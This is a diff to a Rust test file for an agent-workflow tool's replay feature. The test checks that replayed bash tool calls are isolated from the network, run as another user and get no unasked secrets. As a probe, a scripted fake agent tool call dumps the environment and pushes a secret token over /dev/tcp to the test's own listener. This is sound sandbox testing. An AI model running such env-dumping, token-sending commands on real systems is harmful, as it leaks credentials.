@@ -7,7 +7,13 @@
 //!   the turn that read it (exit 1);
 //! - `--from-turn 1` answers turn 1 from the transcript and makes the remaining requests;
 //! - a step that started from another step's workspace (`workspace_from`) is replayed in
-//!   that workspace (failed before: the copy of the directory had no prep.txt).
+//!   that workspace (failed before: the copy of the directory had no prep.txt);
+//! - the replayed tool calls run in the step's room (issue 49): a `bash` call trying a TCP
+//!   listener of the test on the host's loopback and on its non-loopback address reaches
+//!   neither, runs as the step's user, not as the invoking one, and sees no secret — not
+//!   one in the invoking environment, not one given with `--secret` (refused without
+//!   `--replay-with-secrets`), only one given with the flag (failed before: the listener
+//!   heard the token, the call ran as root, and `--secret` went to the tools unasked).
 
 #[allow(dead_code)] // each test binary uses part of the support module
 mod support;
@@ -102,7 +108,14 @@ fn a_replay_reruns_the_tools_without_the_api_and_reports_what_changed() {
     let replay = |extra: &[&str]| {
         sandbox
             .plue(&[
-                "rerun", "1", "--step", "agent", "--replay", "--secret", &secret,
+                "rerun",
+                "1",
+                "--step",
+                "agent",
+                "--replay",
+                "--secret",
+                &secret,
+                "--replay-with-secrets",
             ])
             .args(extra)
             .env_remove("PLUE_DATA_DIR")
@@ -218,4 +231,194 @@ fn a_replay_starts_from_the_workspace_the_step_was_handed() {
     assert!(output.status.success(), "{text}");
     assert!(text.contains("every tool result is as recorded"), "{text}");
     assert_eq!(server.requests().len(), 2, "{text}");
+}
+
+fn root() -> bool {
+    nix::unistd::geteuid().is_root()
+}
+
+/// Connections a listener of the test accepted, and what they sent.
+#[derive(Clone, Default)]
+struct Heard(std::sync::Arc<std::sync::Mutex<(usize, Vec<u8>)>>);
+
+impl Heard {
+    fn anything(&self) -> bool {
+        let heard = self.0.lock().unwrap();
+        heard.0 > 0 || !heard.1.is_empty()
+    }
+}
+
+/// A TCP listener on every address of the host's network namespace (its loopback and its
+/// other addresses alike), recording what it hears; its port.
+fn listener() -> (u16, Heard) {
+    use std::io::Read;
+    let listener = std::net::TcpListener::bind(("0.0.0.0", 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let heard = Heard::default();
+    let record = heard.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            record.0.lock().unwrap().0 += 1;
+            let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
+            let mut buffer = [0u8; 4096];
+            while let Ok(n) = stream.read(&mut buffer) {
+                if n == 0 {
+                    break;
+                }
+                record.0.lock().unwrap().1.extend_from_slice(&buffer[..n]);
+            }
+        }
+    });
+    (port, heard)
+}
+
+/// The host's address on its default route, when it has one (no packet is sent).
+fn outward_address() -> Option<std::net::Ipv4Addr> {
+    let socket = std::net::UdpSocket::bind(("0.0.0.0", 0)).ok()?;
+    socket.connect(("203.0.113.1", 9)).ok()?;
+    match socket.local_addr().ok()?.ip() {
+        std::net::IpAddr::V4(ip) if !ip.is_loopback() && !ip.is_unspecified() => Some(ip),
+        _ => None,
+    }
+}
+
+#[test]
+fn a_replayed_tool_call_runs_in_the_steps_room_without_secrets_it_was_not_given() {
+    let sandbox = Sandbox::new("replay-room");
+    let (port, heard) = listener();
+    let mut targets = vec!["127.0.0.1".to_owned()];
+    targets.extend(outward_address().map(|ip| ip.to_string()));
+    // What the tool saw, where the test reads it: who it ran as, its environment, and
+    // which listener it reached (with the token).
+    let seen = sandbox.shared("seen");
+    let command = format!(
+        "set +e; {{ echo \"uid=$(id -u)\"; env; for to in {targets}; do \
+         if (echo \"token=$MY_TOKEN\" > /dev/tcp/$to/{port}) 2>/dev/null; then echo \"reached $to\"; \
+         else echo \"unreachable $to\"; fi; done; }} > {seen}; true",
+        targets = targets.join(" "),
+        seen = seen.display(),
+    );
+    let server = FakeClaude::start(vec![
+        Turn::new()
+            .tool_use("toolu_1", "bash", &json!({ "command": command }))
+            .reply(),
+        Turn::text(&["done"]).reply(),
+    ]);
+    // An llm step's network is `none` unless it says otherwise.
+    sandbox.write(
+        "w.plue.py",
+        r#"def workflow():
+    return Plan(name="room", triggers=[Trigger.manual()], steps=[
+        Step.llm("agent", prompt="Read the issue.", tools=["bash"], secrets=["MY_TOKEN"],
+                 max_turns=3),
+    ])
+"#,
+    );
+    let secret = format!("MY_TOKEN={SECRET}");
+    let output = sandbox.plue_run_llm(server.url(), &["w.plue.py", "--secret", &secret]);
+    if !root() {
+        // Without root no step gets a network namespace: the step fails closed, and keeps
+        // nothing to replay.
+        assert!(!output.status.success(), "{}", printed(&output));
+        return;
+    }
+    assert!(output.status.success(), "{}", printed(&output));
+    let read_seen = || std::fs::read_to_string(&seen).unwrap();
+    assert!(
+        read_seen().contains("unreachable 127.0.0.1"),
+        "{}",
+        read_seen()
+    );
+    std::fs::write(&seen, "").unwrap();
+
+    let replay = |extra: &[&str]| {
+        let output = sandbox
+            .plue(&["rerun", "1", "--step", "agent", "--replay", "--json"])
+            .args(extra)
+            .env_remove("PLUE_DATA_DIR")
+            .env("ANTHROPIC_BASE_URL", server.url())
+            // Secrets in the invoking environment: a replay must not pick them up.
+            .env("MY_TOKEN", SECRET)
+            .env("ANTHROPIC_API_KEY", LLM_KEY)
+            .output()
+            .expect("plue rerun");
+        std::thread::sleep(std::time::Duration::from_millis(200));
+        output
+    };
+    let me = nix::unistd::geteuid().as_raw();
+    // What the tool saw in one replay: it ran, as another user than the invoking one, and
+    // reached no listener.
+    let check_room = |output: &std::process::Output| -> String {
+        let text = printed(output);
+        let seen_now = read_seen();
+        assert!(
+            seen_now.starts_with("uid="),
+            "the tool did not run: {text}\n{seen_now}"
+        );
+        let uid: u32 = seen_now.lines().next().unwrap()["uid=".len()..]
+            .parse()
+            .unwrap();
+        assert_ne!(
+            uid, me,
+            "the tool ran as the invoking user: {text}\n{seen_now}"
+        );
+        for to in &targets {
+            assert!(
+                seen_now.contains(&format!("unreachable {to}")),
+                "{to} reached: {text}\n{seen_now}"
+            );
+        }
+        assert!(
+            !heard.anything(),
+            "the listener heard the replay: {text}\n{seen_now}"
+        );
+        let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect(&text);
+        assert_eq!(report["network"], "none", "{text}");
+        assert_eq!(report["outcome"], "succeeded", "{text}");
+        for leaked in [LLM_KEY, support::ADMIN_TOKEN] {
+            assert!(
+                !seen_now.contains(leaked),
+                "{leaked} reached the tool: {seen_now}"
+            );
+        }
+        std::fs::write(&seen, "").unwrap();
+        seen_now
+    };
+
+    // --secret for the tools without --replay-with-secrets: refused, nothing runs.
+    let output = replay(&["--secret", &secret]);
+    let text = printed(&output);
+    assert!(!output.status.success(), "{text}");
+    assert!(text.contains("--replay-with-secrets"), "{text}");
+    assert_eq!(read_seen(), "", "the refused replay ran the tool: {text}");
+    assert!(!heard.anything(), "{text}");
+
+    // No --secret: the tool gets none, not even the one in the invoking environment.
+    let output = replay(&[]);
+    let seen_now = check_room(&output);
+    assert!(
+        !seen_now.contains(SECRET),
+        "an unasked secret reached the tool: {seen_now}"
+    );
+    assert!(seen_now.contains("\nunreachable"), "{seen_now}");
+
+    // With the flag: the secrets given, and only those, still in the room.
+    let output = replay(&["--secret", &secret, "--replay-with-secrets"]);
+    let seen_now = check_room(&output);
+    assert!(
+        seen_now.contains(&format!("MY_TOKEN={SECRET}")),
+        "{seen_now}"
+    );
+
+    // A transcript from a server that records no policy (a runner before it did): an llm
+    // step's default, `none`.
+    let kept = files_named(&sandbox.path(".plue/artifacts"), "transcript-");
+    let mut transcript = engine::transcripts::parse_tar(&std::fs::read(&kept[0]).unwrap()).unwrap();
+    assert_eq!(transcript.step["network"], "none", "{:?}", transcript.step);
+    transcript.step.as_object_mut().unwrap().remove("network");
+    sandbox.write("t.json", &serde_json::to_string(&transcript).unwrap());
+    let output = replay(&["--transcript", "t.json", "--data-dir", "no-such-dir"]);
+    let seen_now = check_room(&output);
+    assert!(!seen_now.contains(SECRET), "{seen_now}");
 }
